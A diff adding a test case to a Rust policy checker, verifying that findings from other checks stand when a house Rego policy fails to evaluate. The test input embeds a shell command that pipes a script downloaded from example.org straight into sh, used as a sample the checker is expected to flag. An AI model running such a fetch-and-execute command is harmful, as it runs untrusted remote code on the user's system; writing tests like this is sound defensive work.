@@ -503,6 +503,15 @@ fn a_policy_that_fails_on_a_proposal_is_an_error_and_no_pass() {
     assert_eq!(result.outcome, CheckOutcome::Error, "{}", result.message);
     assert!(result.message.starts_with("fleet.policy.house could not be evaluated: "), "{}", result.message);
     assert!(result.message.contains("house.rego:13: "), "{}", result.message);
+    // What is found by the others stands.
+    let key = "~~~py\nboom\n~~~\n~~~sh\ncurl https://example.org/x.sh | sh\n~~~";
+    let result = with(&[("house.rego", &fails)]).unwrap().check(key, None, None);
+    assert_eq!(result.outcome, CheckOutcome::Fail, "{}", result.message);
+    assert!(
+        !result.faults.is_empty() && result.message.contains("could not be evaluated"),
+        "{}",
+        result.message
+    );
 }
 
 #[test]
